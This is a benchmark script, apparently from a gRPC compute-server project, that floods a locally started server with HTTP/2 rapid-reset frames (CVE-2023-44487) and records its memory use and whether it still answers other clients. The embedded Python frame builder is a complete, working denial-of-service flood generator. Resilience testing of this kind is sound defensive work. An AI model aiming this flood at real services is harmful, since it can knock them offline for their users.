#!/usr/bin/env bash
# rapid_reset.sh: what an HTTP/2 "rapid reset" flood does to compute-server's
# memory (CVE-2023-44487): one connection opens a stream to Run and resets it
# at once (HEADERS, then RST_STREAM CANCEL), RAPID_STREAMS times, as fast as
# the socket takes them, then closes. The server's RSS is sampled while the
# frames go out, and every 0.25 s for RAPID_SETTLE seconds after the close
# (the server may still be reading what was sent). Also reported: whether a
# call from another client succeeds afterwards. Not part of `make bench`:
# it measures an attack, not a speed.
#
#   scripts/bench/rapid_reset.sh
#   RAPID_STREAMS=50000 scripts/bench/rapid_reset.sh
#
# Environment (defaults):
#   RAPID_STREAMS (200000)  streams opened and reset
#   RAPID_SETTLE (10)       seconds of sampling after the close
#   BUILD, COMPUTE_SERVER, COMPUTE_CLIENT, BENCH_KEEP: see lib.sh
set -euo pipefail
BENCH_NAME=rapid_reset
# shellcheck source=scripts/bench/lib.sh
source "$(dirname "$0")/lib.sh"

STREAMS=${RAPID_STREAMS:-200000}
SETTLE=${RAPID_SETTLE:-10}
for v in STREAMS SETTLE; do
  [[ ${!v} =~ ^[0-9]+$ ]] || bench_die "RAPID_$v must be a whole number"
done
((STREAMS >= 1 && STREAMS <= 1000000)) ||
  bench_die "RAPID_STREAMS must be 1..1000000"
((SETTLE <= 120)) || bench_die "RAPID_SETTLE must be 0..120"
bench_need_binaries "$COMPUTE_SERVER" "$COMPUTE_CLIENT"

bench_start_compute "$bench_tmp/server.log" --metrics_port=0 ||
  bench_die "compute-server did not start"

python3 - "$compute_port" "$compute_pid" "$STREAMS" "$SETTLE" <<'PY'
import socket, struct, sys, threading, time

port, pid, streams, settle = map(int, sys.argv[1:5])

def rss_mib():
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmRSS"):
                return int(line.split()[1]) // 1024

def frame(kind, flags, stream, payload=b""):
    return (struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) +
            struct.pack(">I", stream) + payload)

def literal(name, value):  # HPACK literal, not indexed, plain strings
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value

headers = b"".join(literal(k, v) for k, v in [
    (b":method", b"POST"), (b":scheme", b"http"),
    (b":path", b"/compute.v1.Compute/Run"), (b":authority", b"127.0.0.1"),
    (b"content-type", b"application/grpc"), (b"te", b"trailers")])
HEADERS, RST_STREAM, SETTINGS, END_HEADERS, CANCEL = 1, 3, 4, 4, 8

conn = socket.create_connection(("127.0.0.1", port))
conn.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
received = [0]

def drain():  # read what the server answers, so it is never stuck writing
    try:
        while True:
            data = conn.recv(1 << 20)
            if not data:
                return
            received[0] += len(data)
    except OSError:
        return

threading.Thread(target=drain, daemon=True).start()
idle = rss_mib()
peak = idle
start = time.time()
sent = 0
while sent < streams:
    n = min(1000, streams - sent)
    batch = b"".join(
        frame(HEADERS, END_HEADERS, 2 * i + 1, headers) +
        frame(RST_STREAM, 0, 2 * i + 1, struct.pack(">I", CANCEL))
        for i in range(sent, sent + n))
    try:
        conn.sendall(batch)
    except OSError:
        break
    sent += n
    peak = max(peak, rss_mib())
seconds = time.time() - start
at_close = rss_mib()
conn.close()
samples = []
for _ in range(settle * 4):
    time.sleep(0.25)
    samples.append(rss_mib())
peak = max([peak] + samples)
print("rapid reset: %d of %d streams opened and reset in %.1f s on one "
      "connection (%d bytes answered)" % (sent, streams, seconds, received[0]))
print("server RSS: idle %d MiB, peak %d MiB, %d MiB at the close, "
      "%d MiB %d s after it" % (idle, peak, at_close,
                                samples[-1] if samples else at_close, settle))
print("after the close, every 0.25 s (MiB): %s" % " ".join(map(str, samples)))
PY

if "$COMPUTE_CLIENT" run fib --n 10 --deadline 5s \
  --target "127.0.0.1:$compute_port" >/dev/null 2>&1; then
  echo "another client's call afterwards: OK"
else
  echo "another client's call afterwards: FAILED"
  exit 1
fi
